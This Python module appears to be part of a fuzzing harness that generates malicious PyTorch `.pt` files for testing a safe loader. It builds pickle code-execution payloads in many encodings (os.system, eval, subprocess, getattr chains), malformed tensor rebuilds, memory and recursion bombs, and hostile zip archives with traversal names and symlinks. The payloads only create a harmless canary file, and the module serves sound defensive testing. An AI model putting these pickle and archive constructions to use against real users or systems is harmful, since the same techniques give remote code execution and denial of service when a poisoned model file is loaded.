"""Malicious `.pt` files: pickles that would run code, or take memory or time without end.

Pickles are written opcode by opcode, since no pickler writes what they hold. The code they would
run is harmless: it leaves the canary, a file that must never appear. Where a file holds good
weights beside, accepting those and nothing else is right.
"""

import dataclasses
import io
import struct
import zipfile
from collections.abc import Callable, Mapping, Sequence
from typing import Any

import numpy as np
from fuzzing.mutations import write_members

Rng = np.random.Generator
HUGE = 1 << 40


@dataclasses.dataclass(frozen=True)
class Ops:
    """Opcodes that leave one value on the stack."""

    code: bytes


def put(value: Any) -> bytes:
    """Return the opcodes that push a value (of the protocol that torch reads)."""
    if isinstance(value, Ops):
        return value.code
    if value is None:
        return b"N"
    if isinstance(value, bool):
        return b"\x88" if value else b"\x89"
    if isinstance(value, int):
        if -(1 << 31) <= value < 1 << 31:
            return b"J" + struct.pack("<i", value)
        raw = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
        return b"\x8a" + bytes([len(raw)]) + raw
    if isinstance(value, float):
        return b"G" + struct.pack(">d", value)
    if isinstance(value, str):
        raw = value.encode("utf-8", "surrogatepass")
        return b"X" + struct.pack("<I", len(raw)) + raw
    if isinstance(value, tuple):
        return b"(" + b"".join(map(put, value)) + b"t"
    if isinstance(value, list):
        return b"](" + b"".join(map(put, value)) + b"e"
    if isinstance(value, dict):
        return b"}(" + b"".join(put(k) + put(v) for k, v in value.items()) + b"u"
    raise TypeError(type(value))


def name(path: str) -> Ops:
    """Return the opcodes that look a global up."""
    module, _, attribute = path.rpartition(".")
    return Ops(f"c{module}\n{attribute}\n".encode())


def call(function: str | Ops, *arguments: Any) -> Ops:
    """Return the opcodes that call a function."""
    function = name(function) if isinstance(function, str) else function
    return Ops(function.code + put(arguments) + b"R")


def build(value: Ops, state: Any) -> Ops:
    """Return the opcodes that give an object its state."""
    return Ops(value.code + put(state) + b"b")


def storage(key: Any, numel: Any, kind: str = "torch.FloatStorage", place: Any = "cpu") -> Ops:
    """Return the opcodes that load a storage from its member."""
    return Ops(put(("storage", name(kind), key, place, numel)) + b"Q")


def tensor(
    key: str,
    numel: int,
    shape: Sequence[int],
    strides: Sequence[int] | None = None,
    offset: Any = 0,
) -> Ops:
    """Return the opcodes that rebuild a tensor over a storage."""
    if strides is None:
        strides = [int(np.prod(shape[i + 1 :])) for i in range(len(shape))]
    hooks = call("collections.OrderedDict")
    arguments = (storage(key, numel), offset, tuple(shape), tuple(strides), False, hooks)
    return call("torch._utils._rebuild_tensor_v2", *arguments)


def program(value: Any) -> bytes:
    """Return a whole pickle that holds a value."""
    return b"\x80\x02" + put(value) + b"."


class Weights:
    """Good weights, as opcodes and members, for a hostile file to hide behind."""

    def __init__(self, state: Mapping[str, np.ndarray], wrapper: str):
        self.wrapper = wrapper
        keys = {key: str(i) for i, key in enumerate(state)}
        self.entries: dict[Any, Any] = {
            key: tensor(keys[key], value.size, value.shape) for key, value in state.items()
        }
        self.members = {f"archive/data/{keys[k]}": v.tobytes() for k, v in state.items()}
        self.first = next(iter(state))
        self.first_size = state[self.first].size

    def pack(self, pickled: bytes, **more: bytes) -> bytes:
        """Return an archive of a pickle, the weights' storages, and other members."""
        members = {"archive/data.pkl": pickled, "archive/byteorder": b"little"}
        return write_members({**members, **self.members, "archive/version": b"3\n", **more})

    def wrap(self, **changes: Any) -> bytes:
        """Return a file whose weights have entries changed or added."""
        return self.pack(program({self.wrapper: {**self.entries, **changes}}))

    def replace(self, value: Any) -> bytes:
        """Return a file in which a value stands for the first tensor."""
        return self.wrap(**{self.first: value})


def _payloads(canary: str) -> list[Ops]:
    """Return calls that leave the canary."""
    write = f"open({canary!r}, 'w').close()"
    opened = call("builtins.open", canary, "w")
    methods = call("builtins.getattr", call("importlib.import_module", "os"), "mkdir")
    return [
        call("os.system", f"touch {canary}"),
        call("posix.system", f"touch {canary}"),
        call("builtins.eval", write),
        call("builtins.exec", write),
        call("__builtin__.eval", write),
        opened,
        call("io.open", canary, "w"),
        call("os.mkdir", canary),
        call("posix.mkdir", canary),
        call("subprocess.check_call", ["touch", canary]),
        call("subprocess.Popen", ["touch", canary]),
        call("timeit.timeit", "pass", write),
        call(methods, canary),
        call(call("operator.methodcaller", "mkdir", canary), call("importlib.import_module", "os")),
        call(call("functools.partial", name("os.mkdir"), canary)),
        call("pathlib.Path.touch", call("pathlib.Path", canary)),
        call("code.InteractiveInterpreter.runcode", call("code.InteractiveInterpreter"), write),
        call("runpy._run_code", call("builtins.compile", write, "x", "exec"), {}),
        call("torch.save", 1, canary),
        call("numpy.save", canary, 1),
        call("torch.serialization.os.mkdir", canary),
        call("torch._utils.sys.modules.get", canary),
        call("builtins.map", name("os.mkdir"), [canary]),
        call("shutil.copyfile", "/dev/null", canary),
    ]


def _variants(rng: Rng, payload: Ops) -> Ops:
    """Write a call in one of the ways that pickles have for it."""
    code = payload.code
    if not code.startswith(b"c"):
        return payload
    module, attribute, rest = code[1:].split(b"\n", 2)
    stacked = put(module.decode()) + put(attribute.decode()) + b"\x93"
    arguments = rest[:-1]
    kind = int(rng.integers(7))
    if kind == 0:
        return Ops(stacked + rest)
    if kind == 1 and arguments.startswith(b"(") and arguments.endswith(b"t"):
        return Ops(arguments[:-1] + b"i" + module + b"\n" + attribute + b"\n")
    if kind == 2 and arguments.startswith(b"(") and arguments.endswith(b"t"):
        return Ops(b"(" + b"c" + module + b"\n" + attribute + b"\n" + arguments[1:-1] + b"o")
    if kind == 3:
        return Ops(code[:-1] + b"\x81")
    if kind == 4:
        return Ops(code[:-1] + put({}) + b"\x92")
    if kind == 5:
        return Ops(b"\x80\x04\x95" + struct.pack("<Q", len(code)) + code)
    return payload


def _runs_code(rng: Rng, weights: Weights, canary: str) -> bytes:
    """Hide a call somewhere in a file."""
    payloads = _payloads(canary)
    payload = _variants(rng, payloads[int(rng.integers(len(payloads)))])
    entries, wrapper = weights.entries, weights.wrapper
    extra: dict[str, bytes] = {}
    place = int(rng.integers(10))
    if place == 0:
        pickled = program(payload)
    elif place == 1:
        return weights.replace(payload)
    elif place == 2:
        pickled = program({wrapper: entries, "optimizer": payload})
    elif place == 3:
        pickled = program({payload: 1, wrapper: entries})
    elif place == 4:
        good = put({wrapper: entries})
        pickled = b"\x80\x02" + payload.code + b"0" + good + b"."
    elif place == 5:
        pickled = b"\x80\x02" + put({wrapper: entries}) + payload.code + b"0."
    elif place == 6:
        pickled = program(
            {wrapper: build(call("collections.OrderedDict"), {"__reduce__": payload})}
        )
    elif place == 7:
        pickled = program({wrapper: entries})
        extra = {
            "archive/constants.pkl": program(payload),
            "archive/code/__torch__.py": f"open({canary!r}, 'w')".encode(),
            "archive/.data/serialization_id": program(payload),
            "other/data.pkl": program(payload),
        }
    elif place == 8:
        hidden = Ops(put(("storage", payload, "0", "cpu", 4)) + b"Q")
        return weights.replace(
            call("torch._utils._rebuild_tensor_v2", hidden, 0, (4,), (1,), False)
        )
    else:
        kind = call("torch._tensor._rebuild_from_type_v2", payload, name("torch.Tensor"), (), {})
        return weights.replace(kind)
    return weights.pack(pickled, **extra)


def _odd_tensor(rng: Rng, weights: Weights, canary: str) -> bytes:
    """Rebuild a tensor that is not a dense one over a storage of its own."""
    n = weights.first_size
    side = int(rng.choice([10_000, 1 << 14, 100_000]))
    hooks = call("collections.OrderedDict")
    rebuild = "torch._utils._rebuild_"
    odd = [
        tensor("0", n, (side, side), (0, 0)),
        tensor("0", n, (1 << 27,), (0,)),
        tensor("0", n, (HUGE,), (1,)),
        tensor("0", n, (n, n), (1, 1)),
        tensor("0", n, (n,), (-1,), n - 1),
        tensor("0", n, (-n,), (1,)),
        tensor("0", n, (n,), (1,), 1 << 62),
        tensor("0", n, (n,), (1,), -1),
        tensor("0", n, (1,) * 10_000, (1,) * 10_000),
        tensor("0", n, (1 << 31, 1 << 31, 0), (1, 1, 1)),
        tensor("0", HUGE, (HUGE,), (1,)),
        tensor("0", n - 1, (n,), (1,)),
        tensor("0", -1, (n,), (1,)),
        tensor("none", n, (n,), (1,)),
        tensor("../data.pkl", 4, (4,), (1,)),
        tensor("/etc/passwd", 4, (4,), (1,)),
        tensor("1", n, (n // 2,), (1,)),
        call(
            rebuild + "meta_tensor_no_storage", name("torch.float32"), (side, side), (1, 1), False
        ),
        call(
            rebuild + "sparse_tensor",
            call("torch.serialization._get_layout", "torch.sparse_coo"),
            (tensor("0", n, (1, n)), tensor("0", n, (n,)), (HUGE,), False),
        ),
        call(
            rebuild + "qtensor",
            storage("0", n),
            0,
            (n,),
            (1,),
            (name("torch.per_tensor_affine"), 0.5, 1),
            False,
            hooks,
        ),
        call(
            rebuild + "nested_tensor",
            tensor("0", n, (n,)),
            tensor("0", n, (n,)),
            tensor("0", n, (n,)),
            tensor("0", n, (n,)),
        ),
        call(
            rebuild + "wrapper_subclass",
            name("torch.Tensor"),
            name("torch.float32"),
            (side, side),
            (1, 1),
            0,
            name("torch.serialization._get_layout"),
            "cpu",
            False,
        ),
        call(
            rebuild + "device_tensor_from_cpu_tensor",
            tensor("0", n, (n,)),
            name("torch.float32"),
            "cuda:0",
            False,
        ),
        call(
            rebuild + "tensor_v3",
            storage("0", n),
            0,
            (side, side),
            (0, 0),
            False,
            hooks,
            name("torch.float64"),
        ),
        call(rebuild + "parameter", tensor("0", n, (side, side), (0, 0)), True, hooks),
        call(
            rebuild + "parameter_with_state",
            tensor("0", n, (n,)),
            True,
            hooks,
            {
                "stride": name("torch.Size"),
                "contiguous": name("torch.Tensor"),
                "data_ptr": name("builtins.complex"),
                "nbytes": 0,
            },
        ),
        call("torch.Tensor", side, side),
        call("torch.FloatTensor", 1 << 33),
        call("torch.sparse.FloatTensor", side, side),
        call("torch.FloatStorage", 1 << 33),
        call("torch.storage.UntypedStorage", 1 << 36),
        call("torch.storage.TypedStorage", 1 << 36),
        build(call("torch.Tensor"), (storage("0", n), 0, (side, side), (0, 0))),
        call("torch.Size", [HUGE] * 100),
        storage("0", n),
        storage("0", n, "torch.storage.UntypedStorage"),
        storage("0", n, place="cuda:0"),
        storage("0", n, place="meta"),
        storage(0, n),
        storage(("0",), n),
        storage("0", "n"),
        storage("0", n, "torch.cuda.FloatStorage"),
        Ops(put(("module", name("torch.Tensor"), "0", "cpu", n)) + b"Q"),
        Ops(put(7) + b"Q"),
        Ops(put(()) + b"Q"),
        Ops(b"P0\n"),
    ]
    return weights.replace(odd[int(rng.integers(len(odd)))])


def _bomb(rng: Rng, weights: Weights, canary: str) -> bytes:
    """Take memory, stack or time with few bytes."""
    depth = int(rng.choice([1000, 30_000, 200_000]))
    twice = b"".join(b"q\x01h\x01h\x01\x86" for _ in range(60))
    tuples = Ops(b")" + twice)
    lists = Ops(b"]" + b"q\x01](h\x01h\x01e" * 60)
    text = Ops(put("x" * 1000))
    bombs: list[Callable[[], bytes]] = [
        lambda: weights.replace(Ops(b")" + b"\x85" * depth)),
        lambda: weights.replace(Ops(b"](" * depth + b"e" * depth)),
        lambda: weights.replace(Ops(b"}" + b"X\x01\x00\x00\x00k}" * depth + b"s" * depth)),
        lambda: weights.replace(Ops(b"(" * depth + b"t" * depth)),
        lambda: weights.pack(program({Ops(b")" + b"\x85" * depth): 1})),
        lambda: weights.replace(tuples),
        lambda: weights.replace(lists),
        lambda: weights.replace(call("builtins.bytearray", 1 << 40)),
        lambda: weights.replace(call("builtins.bytearray", 1 << 29)),
        lambda: weights.replace(call("collections.Counter", text)),
        lambda: weights.replace(call("_codecs.encode", text, "utf-32")),
        lambda: weights.replace(call("_codecs.encode", text, "zlib")),
        lambda: weights.replace(call("builtins.set", lists)),
        lambda: weights.replace(Ops(b"Nr\xff\xff\xff\xff")),
        lambda: weights.replace(
            Ops(
                b"N"
                + b"".join(b"r" + struct.pack("<I", i * 65536 % (1 << 32)) for i in range(20_000))
            )
        ),
        lambda: weights.replace(Ops(b"X\xff\xff\xff\x7f")),
        lambda: weights.replace(Ops(b"\x8d" + struct.pack("<Q", 1 << 60))),
        lambda: weights.replace(Ops(b"\x8e" + struct.pack("<Q", 1 << 60))),
        lambda: weights.replace(Ops(b"\x96" + struct.pack("<Q", 1 << 60))),
        lambda: weights.replace(Ops(b"\x8b" + struct.pack("<i", 1 << 30))),
        lambda: weights.replace(Ops(b"\x8a\xff" + b"\x7f" * 255)),
        lambda: weights.replace(Ops(b"I" + b"9" * 100_000 + b"\n")),
        lambda: weights.replace(Ops(b"\x95" + struct.pack("<Q", 1 << 62) + b"N")),
        lambda: weights.wrap(**{f"x{i}": 1 for i in range(20_000)}),
        lambda: weights.wrap(**{"k" * 1_000_000: 1}),
        lambda: weights.wrap(**{"\x1b[2J\n\0": 1}),
        lambda: weights.pack(program({1: 2, None: 3, ("a", 1): weights.entries[weights.first]})),
        lambda: weights.pack(program({weights.wrapper: Ops(b"}q\x01X\x01\x00\x00\x00ah\x01s")})),
        lambda: weights.pack(b"\x80\x02}q\x01" + put(weights.wrapper) + b"h\x01s."),
        lambda: weights.pack(
            program(
                build(
                    call("collections.OrderedDict"),
                    {
                        "get": name("builtins.set"),
                        "items": name("torch.Size"),
                        "keys": name("builtins.set"),
                    },
                )
            )
        ),
        lambda: weights.pack(b""),
        lambda: weights.pack(b"\x80\x02" + b"." * 10),
        lambda: weights.pack(b"0" * depth + b"."),
    ]
    if rng.random() < 0.02:  # the system ends these, after all the time that a file may take
        return weights.pack(program({weights.wrapper: weights.entries, tuples: 1}))
    return bombs[int(rng.integers(len(bombs)))]()


def _shared(rng: Rng, weights: Weights, canary: str) -> bytes:
    """Let tensors share memory, or one storage have two sizes or types."""
    n, first = weights.first_size, weights.first
    other = list(weights.entries)[1]
    shared: list[dict[str, Any]] = [
        {other: weights.entries[first]},
        {"extra": tensor("0", n, (n,))},
        {"extra": tensor("0", n, (max(n // 2, 1),))},
        {"extra": tensor("0", n * 2, (n * 2,))},
        {
            "extra": call(
                "torch._utils._rebuild_tensor_v2",
                storage("0", n, "torch.IntStorage"),
                0,
                (n,),
                (1,),
                False,
                call("collections.OrderedDict"),
            )
        },
        {
            first: call(
                "torch._utils._rebuild_tensor_v2",
                storage("0", n * 2, "torch.HalfStorage"),
                0,
                (n * 2,),
                (1,),
                False,
                call("collections.OrderedDict"),
            )
        },
    ]
    return weights.wrap(**shared[int(rng.integers(len(shared)))])


def _odd_archive(rng: Rng, weights: Weights, canary: str) -> bytes:
    """Lie in the archive, around good weights."""
    pickled = program({weights.wrapper: weights.entries})
    good = weights.pack(pickled)
    kind = int(rng.integers(12))
    if kind == 0:
        return _with_symlinks(good, canary)
    if kind == 1:
        bomb = io.BytesIO()
        with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("archive/data.pkl", bytes(1 << 22))
        return bomb.getvalue()
    if kind == 2:
        return weights.pack(good)
    if kind == 3:
        names = ["../evil", "/tmp/evil", "archive/../../evil", "C:\\evil", "a\nb", "e" * 5000]
        return weights.pack(pickled, **dict.fromkeys(names, b"x"))
    if kind == 4:
        return weights.pack(pickled, **{f"archive/{i}": b"" for i in range(5000)})
    if kind == 5:  # every entry of the directory points at the first member
        at = good.rindex(b"PK\x01\x02")
        return good[: at + 42] + struct.pack("<I", 0) + good[at + 46 :]
    if kind == 6:  # a second, empty directory in the comment of the first
        end = good.rindex(b"PK\x05\x06")
        fake = b"PK\x05\x06" + bytes(18)
        return good[: end + 20] + struct.pack("<H", len(fake)) + fake
    if kind == 7:  # sizes that claim to need the 64-bit fields
        at = good.rindex(b"PK\x01\x02") + 20
        return good[:at] + b"\xff" * 8 + good[at + 8 :]
    if kind == 8:
        return good.replace(b"archive/version", b"archive/\x00ersion")
    if kind == 9:
        end = good.rindex(b"PK\x05\x06")
        return good[: end + 8] + b"\xff\xff\xff\xff" + good[end + 12 :]
    if kind == 10:
        return weights.pack(pickled, **{"archive/byteorder": b"middle"})
    return good + good


def _with_symlinks(data: bytes, target: str) -> bytes:
    """Mark every member as a symbolic link, and add one that leads elsewhere."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as archive, zipfile.ZipFile(out, "w") as linked:
        for member in archive.namelist():
            info = zipfile.ZipInfo(member)
            info.external_attr = 0o120777 << 16
            linked.writestr(info, archive.read(member))
        info = zipfile.ZipInfo("archive/link")
        info.external_attr = 0o120777 << 16
        linked.writestr(info, target)
    return out.getvalue()


KINDS = {
    "runs code": _runs_code,
    "odd tensor": _odd_tensor,
    "bomb": _bomb,
    "shared memory": _shared,
    "odd archive": _odd_archive,
}
_SHARES = (0.4, 0.25, 0.2, 0.05, 0.1)


def write_hostile(weights: Weights, seed: int, canary: str) -> tuple[str, bytes]:
    """Return the kind and the bytes of a malicious file."""
    rng = np.random.default_rng([3, seed])
    kind = str(rng.choice(list(KINDS), p=_SHARES))
    return kind, KINDS[kind](rng, weights, canary)
